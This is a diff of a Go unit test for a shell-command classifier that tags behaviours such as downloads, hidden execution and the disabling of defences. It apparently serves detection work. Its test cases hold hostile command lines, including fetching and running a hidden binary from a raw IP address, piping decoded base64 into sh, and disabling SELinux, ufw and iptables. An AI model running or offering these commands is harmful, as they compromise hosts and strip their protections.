@@ -24,8 +24,10 @@ func TestText(t *testing.T) {
 		{"curl -s http://localhost:8080/health | grep ok", Download | LocalHost},
 		{"curl -s http://localhost:8080/metrics | python3 -m json.tool", Download | LocalHost},
 		{"curl -o /tmp/x http://45.9.148.1/x; chmod +x /tmp/x; /tmp/x &", net | Executable | RunWritable},
-		{"wget http://45.9.148.1/a -O /var/tmp/.gt_sys_health && chmod 777 /var/tmp/.gt_sys_health && nohup /var/tmp/.gt_sys_health >/dev/null 2>&1 &",
-			net | Executable | RunWritable | RunHidden},
+		{
+			"wget http://45.9.148.1/a -O /var/tmp/.gt_sys_health && chmod 777 /var/tmp/.gt_sys_health && nohup /var/tmp/.gt_sys_health >/dev/null 2>&1 &",
+			net | Executable | RunWritable | RunHidden,
+		},
 		{"echo ZWNobwo= | base64 -d | sh", DecodeToRun},
 		{"echo ZWNobwo= | base64 -d > /etc/issue", 0},
 		{"setenforce 0; ufw disable; iptables -F", Defence},
@@ -75,7 +77,12 @@ func TestText(t *testing.T) {
 		{"curl -o f -u user:pass -k https://example.org/f", Download},
 		{"/usr/bin/certbot -q renew --no-random-sleep-on-renew", 0},
 		{"30 7 * * * root [ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then /usr/sbin/invoke-rc.d anacron start >/dev/null; fi", 0},
-		{"", 0}, {"$(", 0}, {"`", 0}, {"'", 0}, {"))))", 0}, {">", 0},
+		{"", 0},
+		{"$(", 0},
+		{"`", 0},
+		{"'", 0},
+		{"))))", 0},
+		{">", 0},
 	} {
 		f := Text(c.text)
 		if f.Acts != c.want {
